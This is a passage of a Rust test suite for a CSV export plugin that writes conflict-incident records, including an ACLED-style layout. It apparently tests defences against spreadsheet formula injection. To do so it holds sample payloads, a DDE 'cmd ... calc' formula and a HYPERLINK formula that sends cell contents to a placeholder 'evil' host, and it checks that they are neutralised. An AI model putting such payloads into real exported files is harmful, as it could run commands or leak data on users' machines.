        let row = faryab_acled_row(&doc);
        assert!(
            row.contains("Unknown fatalities coded as 3. Fatalities include 2 attackers."),
            "{row}"
        );
    }

    /// The value ACLED's words code a toll as, as `import --from acled` reads them (the
    /// core's `coded_in_note`, which this crate does not depend on).
    fn coded_in_note(text: &str) -> Option<u64> {
        let lower = text.to_lowercase();
        let rest = &lower[lower.find("fatalities coded as ")? + "fatalities coded as ".len()..];
        let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
        digits.parse().ok()
    }

    /// Status columns (`killed_civilians_low` ...) only for the measures some incident has a
    /// status for, after the incident's fixed columns (`last_seq`, `first_recorded`,
    /// `last_changed`, `revisions`).
    #[test]
    fn status_columns_follow_the_statuses_given() {
        let plain = text(export_sample::<Csv>(&[]).unwrap());
        assert!(!plain.contains("killed_civilians_low"));
        let mut doc = sample_document();
        doc.incidents[0].killed_by_status.civilians = Some(Range::exact(3));
        let rows = parse(&text(export_document::<Csv>(&doc, &[]).unwrap()));
        let header: Vec<&str> = rows[0].iter().collect();
        let col = |name: &str| header.iter().position(|h| *h == name).unwrap();
        assert_eq!(col("killed_civilians_low"), col("revisions") + 1);
        assert!(!header.contains(&"wounded_civilians_low"));
        assert_eq!(&rows[1][col("killed_civilians_best")], "3");
        assert_eq!(&rows[1][col("killed_militants_best")], "");
        assert_eq!(rows[1].len(), header.len());
    }

    #[test]
    fn default_layout_snapshot() {
        insta::assert_snapshot!("default", text(export_sample::<Csv>(&[]).unwrap()));
    }

    /// Adjudications have no column: a comment line names each adjudicated incident.
    #[test]
    fn adjudications_are_named_in_the_comments() {
        let mut doc = sample_document();
        doc.incidents[4].adjudication = Some(chronicle_plugin_sdk::testing::sample_adjudication(
            "a reason",
        ));
        let out = text(export_document::<Csv>(&doc, &[]).unwrap());
        let line = out.lines().find(|l| l.contains("adjudicated")).unwrap();
        assert_eq!(
            line,
            format!(
                "# adjudicated: best figures decided by the recorder, with a reason: {} (seq 39)",
                doc.incidents[4].incident
            )
        );
    }

    #[test]
    fn redactions_are_named_in_the_comments() {
        let mut doc = chronicle_plugin_sdk::testing::sample_document();
        let stream = doc.incidents[4].incident.clone();
        doc.incidents[4]
            .redactions
            .push(chronicle_plugin_sdk::view::Redaction {
                event_id: "e-39".into(),
                event_seq: 39,
                kind: "casualties_reported".into(),
                stream,
                redaction_id: "r-40".into(),
                redaction_seq: 40,
                redacted_at: "2020-08-02T08:00:00.000000Z".into(),
                reason: "=HYPERLINK(\"x\") a name".into(),
            });
        let out = text(chronicle_plugin_sdk::testing::export_document::<Csv>(&doc, &[]).unwrap());
        let line = out.lines().find(|l| l.starts_with("# redacted")).unwrap();
        insta::assert_snapshot!("redacted_comment", line);
        assert!(!out.contains("HYPERLINK"));
        let sample = text(export_sample::<Csv>(&[]).unwrap());
        assert!(!sample.contains("redacted"));
    }

    #[test]
    fn default_layout_without_provenance() {
        let out = text(export_sample::<Csv>(&[("provenance", "false")]).unwrap());
        assert!(out.starts_with("incident,date,"));
        assert!(!out.contains('#'));
        let with = text(export_sample::<Csv>(&[]).unwrap());
        assert!(with.ends_with(&out));
    }

    #[test]
    fn default_layout_has_per_source_columns_and_ranges() {
        let rows = parse(&text(export_sample::<Csv>(&[]).unwrap()));
        let header = &rows[0];
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        let puli = rows
            .iter()
            .find(|r| &r[0] == "2020-07-30-puli-alam")
            .unwrap();
        assert_eq!(&puli[col("killed_low")], "8");
        assert_eq!(&puli[col("killed_best")], "12");
        assert_eq!(&puli[col("killed_high")], "17");
        assert_eq!(&puli[col("disputed")], "true");
        assert_eq!(&puli[col("AFP_killed")], "17");
        assert_eq!(&puli[col("Ministry of Defense_wounded")], "30");
        let kunduz = rows.iter().find(|r| r[0].contains("kunduz")).unwrap();
        assert_eq!(&kunduz[col("killed_open_high")], "true");
        assert_eq!(&kunduz[col("Wikipedia_killed")], "at least 14");
        assert_eq!(&kunduz[col("wounded_best")], "");
        assert!(rows.iter().all(|r| r.len() == header.len()));
    }

    #[test]
    fn acled_layout_snapshot() {
        insta::assert_snapshot!(
            "acled",
            text(export_sample::<Csv>(&[("layout", "acled")]).unwrap())
        );
    }

    #[test]
    fn acled_layout_matches_acled_columns() {
        let out = text(export_sample::<Csv>(&[("layout", "acled")]).unwrap());
        assert!(!out.starts_with('#'));
        let rows = parse(&out);
        assert_eq!(rows[0].iter().collect::<Vec<_>>(), ACLED_COLUMNS);
        // The header of the ACLED export shipped with the project's field
        // notes (shared/data/acled-afghanistan-2022-h1-acledR-dummy.csv).
        assert_eq!(
            ACLED_COLUMNS.join(","),
            "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,\
             sub_event_type,actor1,assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,\
             interaction,civilian_targeting,iso,region,country,admin1,admin2,admin3,\
             location,latitude,longitude,geo_precision,source,source_scale,notes,\
             fatalities,tags,timestamp"
        );
        let puli = rows
            .iter()
            .find(|r| &r[0] == "2020-07-30-puli-alam")
            .unwrap();
        assert_eq!(&puli[28], "12");
        assert!(puli[27].ends_with(
            "Fatalities coded as 12 (AFP reported 17; Ministry of Defense reported 8)."
        ));
        assert_eq!(&puli[6], "Suicide bomb");
        assert_eq!(&puli[24], "1");
        // ACLED counts every death: at least 11 killed and the three attackers.
        let aybak = rows
            .iter()
            .find(|r| &r[0] == "2020-07-13-aybak-nds-compound")
            .unwrap();
        assert_eq!(&aybak[28], "14");
        assert!(aybak[27].ends_with("Fatalities include 3 attackers."));
        assert!(rows.iter().all(|r| r.len() == 31));
        let no_prov =
            text(export_sample::<Csv>(&[("layout", "acled"), ("provenance", "no")]).unwrap());
        assert!(!no_prov.contains("log_hash"));
    }

    #[test]
    fn acled_fatalities_of_a_disputed_incident_with_an_attacker() {
        let mut doc = sample_document();
        let puli = doc
            .incidents
            .iter_mut()
            .find(|i| i.incident == "2020-07-30-puli-alam")
            .unwrap();
        puli.attackers_killed = Range::exact(1);
        let rows = parse(&text(
            export_document::<Csv>(&doc, &[("layout", "acled")]).unwrap(),
        ));
        let puli = rows
            .iter()
            .find(|r| &r[0] == "2020-07-30-puli-alam")
            .unwrap();
        assert_eq!(&puli[28], "13");
        assert!(puli[27].ends_with(
            "Fatalities coded as 13: 12 killed (AFP reported 17; Ministry of Defense reported 8) \
             and 1 attacker."
        ));
    }

    #[test]
    fn quoting_and_bad_options() {
        let mut doc = sample_document();
        doc.incidents[0].summary = Some("He said \"17\", then\n8".into());
        let out = text(export_document::<Csv>(&doc, &[("provenance", "false")]).unwrap());
        assert!(out.contains("\"He said \"\"17\"\", then\n8\""));
        assert_eq!(parse(&out)[1][30], *"He said \"17\", then\n8");
        let err = export_sample::<Csv>(&[("layout", "ucdp")]).unwrap_err();
        assert_eq!(err, "option layout=ucdp: expected one of default, acled");
        let err = export_sample::<Csv>(&[("provenance", "maybe")]).unwrap_err();
        assert!(err.starts_with("option provenance=maybe"), "{err}");
    }

    /// The sample with every text field of Puli Alam, and the names and
    /// figures of its sources (AFP, Ministry of Defense), beginning with
    /// `trigger`.
    fn poisoned(trigger: char) -> ViewDocument {
        let mut doc = sample_document();
        let p = |s: &str| format!("{trigger}{s}");
        let i = doc
            .incidents
            .iter_mut()
            .find(|i| i.incident == "2020-07-30-puli-alam")
            .unwrap();
        i.incident = p("id");
        i.date = p("date");
        i.date_start = p("date_start");
        i.date_end = p("date_end");
        i.country = Some(p("country"));
        i.province_country = Some(p("country"));
        i.province = p("province");
        i.province_code = Some(p("code"));
        i.district = Some(p("district"));
        i.locality = Some(p("locality"));
        i.category = p("category");
        i.target = Some(p("target"));
        i.perpetrator = Some(p("cmd|' /C calc'!A0"));
        i.summary = Some(p(r#"HYPERLINK("http://evil/?x="&A1,"click")"#));
        i.coordinates = Some(chronicle_plugin_sdk::Coordinates {
            lat: -33.9,
            lon: -70.5,
            precision: None,
        });
        for s in &mut i.sources {
            s.source = p(&s.source);
            for f in [&mut s.killed, &mut s.wounded].into_iter().flatten() {
                f.text = p(&f.text);
            }
        }
        doc
    }

    const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

    /// The columns of `rows` (header first) whose cell in the row of the
    /// poisoned incident is guarded; asserts no cell anywhere begins with
    /// a trigger, but for numbers.
    fn guarded_columns(rows: &[csv::StringRecord], trigger: char) -> Vec<String> {
        for r in rows {
            for cell in r {
                let number = cell.parse::<f64>().is_ok();
                assert!(number || !cell.starts_with(TRIGGERS), "unguarded {cell:?}");
            }
        }
        let guard = format!("'{trigger}");
        let row = rows
            .iter()
            .find(|r| r[0] == format!("'{trigger}id"))
            .unwrap();
        rows[0]
            .iter()
            .zip(row)
            .filter(|(_, cell)| cell.starts_with(&guard))
            .map(|(h, _)| h.to_owned())
            .collect()
    }

    #[test]
    fn every_text_column_is_guarded_against_formulas() {
        for t in TRIGGERS {
            let doc = poisoned(t);
            let out = text(export_document::<Csv>(&doc, &[]).unwrap());
            let rows = parse(&out);
            let mut expected: Vec<String> = [
                "incident",
                "date",
                "date_start",
                "date_end",
                "country",
                "province",
                "province_code",
                "district",
                "locality",
                "category",
                "target",
                "perpetrator",
                "sources",
                "summary",
            ]
            .iter()
            .map(|s| (*s).to_owned())
            .collect();
            for source in ["AFP", "Ministry of Defense"] {
                for what in ["killed", "wounded"] {
                    expected.push(format!("'{t}{source}_{what}"));
                }
            }
            assert_eq!(guarded_columns(&rows, t), expected, "{t:?}");
            // The source names in the header are guarded too.
            assert!(rows[0].iter().any(|h| h == format!("'{t}AFP_killed")));
            // Numbers stay numbers, a negative one included.
            let header = &rows[0];
            let col = |name: &str| header.iter().position(|h| h == name).unwrap();
            let row = rows.iter().find(|r| r[0] == format!("'{t}id")).unwrap();
            assert_eq!(&row[col("latitude")], "-33.9");
            assert_eq!(&row[col("longitude")], "-70.5");
            assert_eq!(&row[col("killed_best")], "12");
            assert!(out.starts_with(
                "# chronicle export: csv plugin 0.1.0, layout default, formulas=guard\n"
            ));
        }
    }

    #[test]
    fn every_text_column_of_the_acled_layout_is_guarded_against_formulas() {
        for t in TRIGGERS {
            let doc = poisoned(t);
            let rows = parse(&text(
                export_document::<Csv>(&doc, &[("layout", "acled")]).unwrap(),
            ));
            // The notes are the summary trimmed: a leading tab or carriage
            // return goes.
            let notes = if t.is_whitespace() {
                None
            } else {
                Some("notes")
            };
            assert_eq!(
                guarded_columns(&rows, t),
                [
                    "event_id_cnty",
                    "event_date",
                    "year",
                    "actor1",
                    "actor2",
                    "country",
                    "admin1",
                    "admin2",
                    "location",
                    "source",
                ]
                .into_iter()
                .chain(notes)
                .collect::<Vec<_>>(),
                "{t:?}"
            );
            let row = rows.iter().find(|r| r[0] == format!("'{t}id")).unwrap();
            assert_eq!((&row[22], &row[23]), ("-33.9", "-70.5"));
            assert!(row[29].ends_with("; formulas=guard"), "{}", &row[29]);
        }
    }

    #[test]
    fn formulas_keep_writes_cells_as_they_are() {
        let doc = poisoned('=');
        let out = text(export_document::<Csv>(&doc, &[("formulas", "keep")]).unwrap());
        assert!(out
            .starts_with("# chronicle export: csv plugin 0.1.0, layout default, formulas=keep\n"));
        let rows = parse(&out);
        let row = rows.iter().find(|r| &r[0] == "=id").unwrap();
        assert!(row
            .iter()
            .any(|c| c == r#"=HYPERLINK("http://evil/?x="&A1,"click")"#));
        let acled = text(
            export_document::<Csv>(&doc, &[("layout", "acled"), ("formulas", "keep")]).unwrap(),
        );
        let rows = parse(&acled);
        let row = rows.iter().find(|r| &r[0] == "=id").unwrap();
        assert_eq!(&row[7], "=cmd|' /C calc'!A0");
        assert!(row[29].ends_with("; formulas=keep"));
        let err = export_sample::<Csv>(&[("formulas", "strip")]).unwrap_err();
        assert_eq!(err, "option formulas=strip: expected one of guard, keep");
    }

    #[test]
    fn a_cell_of_apostrophes_before_a_trigger_is_guarded_too() {
        let mut doc = sample_document();
        doc.incidents[0].summary = Some("'=already quoted".into());
        doc.incidents[1].summary = Some("'plain".into());
        let rows = parse(&text(
            export_document::<Csv>(&doc, &[("provenance", "false")]).unwrap(),
        ));
        assert_eq!(&rows[1][30], "''=already quoted");
        assert_eq!(&rows[2][30], "'plain");
    }

    #[test]
    fn category_mapping() {
        let sub = |c: &str| acled_types(c).sub_event;
        assert_eq!(sub("suicide car bombing"), "Suicide bomb");
        assert_eq!(sub("roadside bomb"), "Remote explosive/landmine/IED");
        assert_eq!(sub("IED attack"), "Remote explosive/landmine/IED");
        assert_eq!(sub("bombing"), "Remote explosive/landmine/IED");
        assert_eq!(sub("checkpoint attack"), "Armed clash");
        assert_eq!(sub("air strike"), "Air/drone strike");
        assert_eq!(sub("air defence"), "Other");
        let clash = acled_types("armed clash");
        assert_eq!(
            (clash.disorder, clash.event, clash.defaulted),
            ("Political violence", "Battles", false)
        );
        let shooting = acled_types("shooting");
        assert_eq!(
            shooting,
            AcledTypes {
                disorder: "Strategic developments",
                event: "Strategic developments",
                sub_event: "Other",
                defaulted: true,
            }
        );
        assert!(acled_types("occupied building").defaulted);
    }

    #[test]
    fn acled_sub_event_types_map_to_themselves() {
        // The inverse of the import, which records `sub_event_type` as the
        // category: every ACLED type comes back as it went in, never defaulted.
        for (sub, event, disorder) in ACLED_SUB_EVENT_TYPES {
            let t = acled_types(sub);
            assert_eq!((t.sub_event, t.event, t.disorder), (sub, event, disorder));
            assert!(!t.defaulted, "{sub}");
            assert_eq!(acled_types(&sub.to_lowercase()).sub_event, sub);
        }
        // "Other" given as the category is ACLED's own, not a default.
        assert!(!acled_types("Other").defaulted);
    }

    #[test]
    fn acled_rows_fill_what_the_import_needs() {
        let mut doc = sample_document();
        let puli = doc
            .incidents
            .iter_mut()
            .find(|i| i.incident == "2020-07-30-puli-alam")
            .unwrap();
        // Recorded without a country: the gazetteer's country is used.
        puli.country = None;
        puli.province_country = Some("Afghanistan".into());
        puli.category = "shooting".into();
        puli.killed = Range::default();
        puli.attackers_killed = Range::default();
        let rows = parse(&text(
            export_document::<Csv>(&doc, &[("layout", "acled")]).unwrap(),
        ));
        let puli = rows
            .iter()
            .find(|r| &r[0] == "2020-07-30-puli-alam")
            .unwrap();
        assert_eq!(&puli[17], "Afghanistan");
        assert_eq!((&puli[5], &puli[6]), ("Strategic developments", "Other"));
        assert_eq!(&puli[28], "0", "ACLED writes 0 for no reported figure");
        assert!(
            puli[27].ends_with(
                "No source gave a fatality figure: coded as 0. The category \"shooting\" \
                 matches no ACLED sub-event type: coded as Other."
            ),
            "{}",
            &puli[27]
        );
        // Every row has a sub-event type and a country.
        for r in &rows[1..] {
            assert!(!r[6].is_empty() && !r[17].is_empty(), "{r:?}");
        }
    }
}
